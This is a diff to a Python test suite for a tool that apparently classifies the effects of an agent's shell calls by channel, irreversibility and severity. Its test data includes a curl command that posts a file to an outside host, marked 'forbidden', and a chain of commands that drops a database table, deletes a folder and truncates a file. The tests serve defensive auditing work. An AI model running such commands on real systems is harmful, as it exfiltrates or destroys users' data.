@@ -245,7 +245,7 @@ def _file(resource: str, change: str, **more) -> Effect:
 
 
 def added(calls, *effects) -> list[tuple[str, str]]:
-    rows = call_effects("t", acts(*calls), effects, workdir="/app", class_of=lambda resource: "collateral")
+    rows = call_effects("t", acts(*calls), effects, workdir="/app", judge=lambda *of: ("collateral", 0.5))
     return [(row.channel, row.resource) for row in rows]
 
 
@@ -272,10 +272,11 @@ def test_what_was_emptied_is_told_though_the_end_state_only_shows_another_conten
 
 def test_what_leaves_no_trace_is_told_by_the_call():
     row = call_effects(
-        "t", acts("ls", "curl -d @x https://up.example.org"), (), class_of=lambda _: "forbidden"
+        "t", acts("ls", "curl -d @x https://up.example.org"), (), judge=lambda *of: ("forbidden", 1.0)
     )[0]
     assert (row.step, row.channel, row.change, row.class_) == (1, "network", "sent", "forbidden")
     assert row.irreversible
+    assert row.severity == 1
     assert row.evidence == (1,)
 
 
@@ -292,6 +293,28 @@ def test_a_quiet_push_that_changed_a_repository_here_went_nowhere_else():
     there = Effect(trial_id="t", channel="git", resource="git:/srv/o.git:refs/heads/main", change="modified")
     assert added(["git push -q origin main"], there) == []
     assert added(["git push -q origin main"]) == [("network", "network:origin")]
+
+
+def test_what_became_of_local_refs_is_for_the_end_state_to_say():
+    ref = {
+        "trial_id": "t",
+        "channel": "git",
+        "resource": "git:refs/heads/main",
+        "change": "modified",
+        "step": 0,
+    }
+    amend = ["git commit --amend --no-edit"]
+    assert added(amend, Effect(**ref, irreversible=True)) == []
+    assert added(amend, Effect(**ref, irreversible=False)) == []
+    assert added(amend, Effect(**ref)) == [("git", "git:HEAD")]
+
+
+def test_rows_without_the_folder_of_calls_are_those_with_it():
+    calls = acts("sqlite3 shop.db 'DROP TABLE users'; rm -r b; truncate -s 0 a")
+    state = (_file("/app/a", "modified"), _file("/app/b/c", "modified"), _file("/app/shop.db", "modified"))
+    recorded = call_effects("t", calls, state, workdir="/app")
+    assert len(recorded) == 3
+    assert call_effects("t", calls, (*state, *recorded)) == ()
 
 
 def test_rows_that_were_recorded_add_nothing_a_second_time():
